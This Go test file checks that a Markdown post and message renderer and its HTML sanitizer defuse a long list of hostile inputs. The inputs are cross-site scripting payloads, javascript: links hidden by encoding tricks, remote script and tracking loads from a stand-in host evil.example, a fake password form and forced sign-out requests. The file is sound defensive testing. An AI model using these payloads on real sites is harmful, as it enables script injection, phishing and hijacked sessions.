package prose

import (
	"strings"
	"testing"
)

// hostile are attempts at the pages of other people.
var hostile = append(hostileMarkdown, hostileMarks...)

var hostileMarkdown = []string{
	// raw HTML
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"<script\n>alert(1)</script\n>",
	`<<script>script>alert(1)<</script>/script>`,
	`<img src=x onerror=alert(1)>`,
	`<img/src="x"/onerror=alert(1)//`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert&#40;1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="data:text/html,<script>alert(1)</script>">`,
	`<embed src=//evil.example>`,
	`<form action=//evil.example><input name=password><button>Sign in`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="/\evil.example">x</a>`,
	"<a href=\"/\t/evil.example\">x</a>",
	`<a href="#main" id="main" name="main" target="_top" style="inset:0" class="btn">x</a>`,
	`<img src="//evil.example/track.gif" srcset="//evil.example/2.gif 2x">`,
	`<img src="https://evil.example/track.gif">`,
	`<img src="/files/../sign-out">`,
	`<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import "//evil.example/x.css"</style>`,
	`<p style="position:fixed;inset:0" id="main" class="btn danger">x</p>`,
	`<div hx-get="/sign-out" hx-trigger="load">x</div>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><html><body onload=alert(1)>`,
	`</p></div></main><script>alert(1)</script>`,
	`</blockquote></section><h1>Your session has ended</h1>`,
	// links
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](javascript&#x3A;alert(1))`,
	`[x](&#106;&#97;&#118;&#97;script:alert(1))`,
	`[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)`,
	`[x](j&#x41;vascript:alert(1))`,
	`[x](java&Tab;script:alert(1))`,
	`[x](java&NewLine;script:alert(1))`,
	`[x](<java` + "\t" + `script:alert(1)>)`,
	`[x](<&#1;javascript:alert(1)>)`,
	`[x](< javascript:alert(1)>)`,
	`[x](javascript\:alert(1))`,
	`[x](\javascript:alert(1))`,
	`[x](javascript&amp;colon;alert(1))`,
	`[x](javascript&amp;#58;alert(1))`,
	`[x](javascript%3Aalert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/png;base64,AAAA)`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://evil.example/1)`,
	`[x](filesystem:http://evil.example/1)`,
	`[x](intent://evil#Intent;scheme=x;end)`,
	`[x](view-source:javascript:alert(1))`,
	`[x](//evil.example)`,
	`[x](/\evil.example)`,
	`[x](/\\evil.example)`,
	`[x](\/\/evil.example)`,
	`[x](/&#9;/evil.example)`,
	`[x](/&Tab;/evil.example)`,
	`[x](/&#92;evil.example)`,
	`[x](/&bsol;evil.example)`,
	`[x](&sol;/evil.example)`,
	`[x](https:evil.example)`,
	`[x](https:/evil.example)`,
	`[x](https:///evil.example)`,
	`[x](http://bank.example@evil.example/)`,
	`[x](http://bank.example\@evil.example/)`,
	`[x](http://[::1)`,
	`[x](http://a b.example/)`,
	`[x](#main)`,
	`[x](?sign-out)`,
	`[x]()`,
	`[x](http://a.example/" onmouseover="alert(1))`,
	`[x](http://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;)`,
	`[x](/a"onclick="alert(1))`,
	`[x](mailto:a@b.example?body=%3Cscript%3E)`,
	`[x](mailto:javascript:alert(1))`,
	// titles
	`[x](/a "\" onmouseover=alert(1) \"")`,
	`[x](/a '"><script>alert(1)</script>')`,
	`[x](/a "&quot; onclick=alert(1) x=&quot;")`,
	`![x](/files/a "</figcaption><script>alert(1)</script>")`,
	`![x](/files/a '" onerror="alert(1)')`,
	// references
	"[x]\n\n[x]: javascript:alert(1)",
	"[x][y]\n\n[y]: <javascript:alert(1)> 'z'",
	"[x][]\n\n[x]: data:text/html,1",
	"![x]\n\n[x]: javascript:alert(1)",
	"[x]\n\n[x]: /a \"><script>alert(1)</script>\"",
	"> [x]: javascript&colon;alert(1)\n\n[x]",
	// autolinks and bare addresses
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<data:text/html,x>`,
	`<vbscript:x>`,
	`<http://a.example/"onmouseover="alert(1)>`,
	`<http://bank.example@evil.example>`,
	`<a@b.example" onclick="alert(1)>`,
	`<javascript:a@b.example>`,
	`http://a.example/"onmouseover="alert(1)`,
	`http://a.example/'><script>alert(1)</script>`,
	`http://a.example/&quot;onclick=alert(1)`,
	`www.a.example/"><img src=x onerror=alert(1)>`,
	`ftp://a.example/x`,
	`javascript:alert(1)//www.a.example`,
	`a@b.example"><script>alert(1)</script>`,
	// pictures
	`![x](javascript:alert(1))`,
	`![x](http://evil.example/track.gif)`,
	`![x](//evil.example/track.gif)`,
	`![x](data:image/svg+xml;base64,PHN2Zy8+)`,
	`![x](data:image/png;base64,AAAA)`,
	`![" onerror="alert(1)](/files/a)`,
	`![<script>alert(1)</script>](/files/a)`,
	`![&quot; onerror=&quot;alert(1)](/files/a)`,
	`![x](/files/../sign-out)`,
	`![x](/files/%2e%2e/sign-out)`,
	`![x](/files/a/../../sign-out)`,
	`![x](/files//evil.example/a)`,
	`![x](/files/a?x="onerror=alert(1))`,
	`![x](/filesystem/a)`,
	`[![x](/files/a)](javascript:alert(1))`,
	`[![x](http://evil.example/a)](http://b.example)`,
	`![[x](javascript:alert(1))](/files/a)`,
	`![![x](/files/b)](/files/a)`,
	`[a ![b [c](/c)](/files/b) d](/d)`,
	`[a <http://b.example> c](/d)`,
	`[a http://b.example c](/d)`,
	// code
	"```\"><script>alert(1)</script>\nx\n```",
	"```js onload=alert(1)\nx\n```",
	"``` x\" tabindex=\"1\nx\n```",
	"```&quot;onclick=&quot;alert(1)\nx\n```",
	"```mention btn\nx\n```",
	"`</code><script>alert(1)</script>`",
	"    </code></pre><script>alert(1)</script>",
	// mentions
	`@june"><script>alert(1)</script>`,
	`@../../sign-out`,
	`[@june](javascript:alert(1))`,
	`[@june](http://evil.example)`,
	`@june@evil.example`,
	// quotes
	"> [x](/m/june), [post 1](javascript:alert(1)#p1):\n>\n> x",
	"> [x](/m/june), [post 1](//evil.example#p1):\n>\n> x",
	"> [x](/m/june), [post 1](/\\\\evil.example#p1):\n>\n> x",
	"> [<script>](/m/june), [post 1](/s/a#p1):\n>\n> </blockquote><script>alert(1)</script>",
	"> [[x](/a)](/m/june), [post 1](/s/a#p1):\n>\n> x",
	// attributes, tables, headings
	`# x {#main .btn onclick=alert(1)}`,
	`x {: style="color:red"}`,
	"|a|b|\n|:-\" onclick=\"alert(1)|-|\n|1|2|",
	"|<script>|b|\n|-|-|\n|`\\|`</td></table><script>|2|",
	"| a |\n| - |\n| [x](javascript:alert(1)) |",
	"- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))",
	// letters that are not what they seem
	"[x](\u0001javascript:alert(1))",
	"[x](java\u0000script:alert(1))",
	"[x](\u00a0javascript:alert(1))",
	"[x](java\u200dscript:alert(1))",
	"[x](ｊavascript:alert(1))",
	"\u202e<script>alert(1)</script>",
	"＜script＞alert(1)＜/script＞",
	"<scr\u0000ipt>alert(1)</scr\u0000ipt>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&amp;lt;script&amp;gt;",
	`\<script>alert(1)\</script>`,
	`*<em onclick=alert(1)>*`,
	`~~</del><script>alert(1)</script>~~`,
	`{{constructor.constructor('alert(1)')()}}`,
	`${alert(1)}`,
}

func TestHostileTextsAreHarmless(t *testing.T) {
	if len(hostile) < 60 {
		t.Fatalf("only %d attempts", len(hostile))
	}
	for _, source := range hostile {
		for name, cooked := range bothWays(t, source) {
			if found := flaws(cooked.HTML); len(found) > 0 {
				t.Errorf("%s of %q\nis    %s\nwith  %q", name, source, cooked.HTML, found)
			}
		}
	}
}

// The allow-list must hold alone, as if the parser let every tag through.
func TestPolicyHoldsAlone(t *testing.T) {
	for _, source := range hostile {
		made := policy.Sanitize(source)
		if _, found := inspect(made); len(found) > 0 {
			t.Errorf("%q\nis    %s\nwith  %q", source, made, found)
		}
	}
	const good = `<p>a <a href="/x">b</a> <em>c</em></p>`
	if made := policy.Sanitize(good); made != good {
		t.Errorf("%s became %s", good, made)
	}
}

// What was typed as a tag is shown as it was typed, and not silently lost.
func TestTagsAreShownAsText(t *testing.T) {
	const source = "I <3 it: <b>bold</b>\n\n<div>\nnot lost\n</div>"
	cooked, err := Post(source)
	if err != nil {
		t.Fatal(err)
	}
	if want := strings.Join(strings.Fields(source), " "); cooked.Plain != want {
		t.Errorf("plain is %q, not %q", cooked.Plain, want)
	}
}

func bothWays(t testing.TB, source string) map[string]Cooked {
	t.Helper()
	post, err := Post(source)
	if err != nil {
		t.Fatalf("post of %q: %v", source, err)
	}
	message, err := Message(source)
	if err != nil {
		t.Fatalf("message of %q: %v", source, err)
	}
	return map[string]Cooked{"post": post, "message": message}
}
